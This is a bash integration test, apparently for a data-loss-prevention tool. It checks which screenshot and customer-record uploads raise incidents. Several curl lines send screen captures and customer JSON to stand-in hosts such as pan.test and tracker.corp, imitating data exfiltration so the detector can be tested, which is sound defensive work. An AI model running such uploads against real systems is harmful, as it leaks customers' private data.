#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# To be left alone: the screenshot of an unrelated page, for the company's tracker. Once before any
# customer was looked up today; and once while one is open in another window, because the tracker is
# where screenshots belong.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
# shellcheck source=tests/support/screen.sh
. "$root/tests/support/screen.sh"
needs_programs Xvfb xmessage xwininfo import
set_the_stage
{
	cat "$policy"
	printf '[sink "tracker.corp"]\nhost = tracker.corp, 10.77.0.51\nkind = web\nallowed = yes\n'
} >"$work/policy.conf"
policy=$work/policy.conf

alice_reports() { # FILE: the screen as it is, to the tracker
	alice_does <<-END
		import -display $screen -window root $1
		curl -sS -F file=@$1 https://tracker.corp/upload
	END
}

crm_serves crm.test
cloud_serves tracker.corp
cloud_serves pan.test
alice_has_a_screen
weir_watches

alice_does <<'END'
echo "The button below this page does nothing" >page.txt
END
alice_opens page page.txt
alice_reports morning.png
morning=$(stat -c %s "$home/morning.png")
then_it "the picture is with the tracker ($morning bytes)" \
	test "$(received_bytes tracker.corp)" -gt "$morning"
weir_was_awake
then_it "it has not made one event" \
	json_says "$work/events.jsonl" "not [e for e in d if 'morning' in str(e) or 'tracker' in str(e)]"

say "a customer is open in another window"
alice_does <<'END'
curl -sS https://crm.test/policy/P202090001 >customer.json
END
alice_opens customer customer.json
alice_reports noon.png
noon=$(stat -c %s "$home/noon.png")
then_it "the picture is with the tracker ($noon bytes)" \
	test "$(received_bytes tracker.corp)" -gt $((morning + noon))
soon "the timeline says that something went there" \
	events_say "any(e['kind'] == 'egress' and e['object'].get('zone') == 'tracker.corp' and e['bytes'] for e in d)"
weir_was_awake
then_it "no incident" incidents_say "d == []"

say "the other side of the silence: the same picture to a cloud disk"
alice_does <<'END'
curl -sS -F file=@noon.png https://pan.test/upload
END
soon "that is an incident, and the tracker has no part in it" \
	incidents_say "len(d) == 1 and [s['name'] for s in d[0]['sinks']] == ['pan.test'] and 'screen_capture' in d[0]['detectors']"

say "and the rows themselves to the tracker"
alice_does <<'END'
curl -sS -F file=@customer.json https://tracker.corp/upload
END
soon "that is one, lower, and it has the picture in it" \
	incidents_say "len(d) == 2 and min(i['score'] for i in d if i['sinks'][0]['name'] == 'tracker.corp') < 40"
